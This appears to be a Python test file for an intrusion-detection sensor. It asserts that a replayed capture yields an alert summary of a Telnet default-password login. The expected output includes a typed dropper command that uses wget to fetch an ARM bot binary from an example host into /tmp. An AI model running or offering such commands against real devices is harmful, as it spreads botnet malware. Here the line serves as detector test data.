"""The stories at the end of a run, as a user sees them."""

from __future__ import annotations

from tests.command import DEMO, sensor

WORST = """\
Connections that alerted, the worst first
  CRITICAL  203.0.113.66:52002 -> 192.168.3.31:23  tcp accepted (responder_data) inbound  1:JdNV9PQtIY0pA8M4dgnpE0LCncM=
      2026-01-02 03:11:33.701093, 4 commands, 1.9 kB in 2.98 s
      login root: success (shell_prompt: #) default password
      typed: cd /tmp; wget http://198.51.100.77/bins/arm7
      Telnet Login with Default Credentials, Busybox Dropper over Telnet; high: Successful Telnet Login From Outside;
        medium: Accepted Default Telnet Port Connection
      until then the same source had tried 16 hosts: 11 refused, 4 unanswered, 1 accepted, 1 half open
      afterwards the server opened 198.51.100.77:80, 185.199.111.153:23
"""  # noqa: E501  as wide as lines without a terminal are
"""captures/mixed.py: a scan of 16 addresses, of which nine refuse and two are prohibited; then a
bot that fails once, in a connection that was accepted, gets in, fetches its program and goes on."""


def test_the_demo_ends_with_the_story_of_who_got_in() -> None:
    ended = sensor("replay", DEMO)
    assert ended.code == 0
    assert WORST in ended.err
    assert ended.err.count("\n  MEDIUM  ") == 5 and ended.err.count("\n  HIGH  ") == 1
    assert "Connections that alerted" not in ended.out


def test_a_quiet_run_tells_no_story() -> None:
    assert sensor("replay", "--quiet", DEMO).err == ""
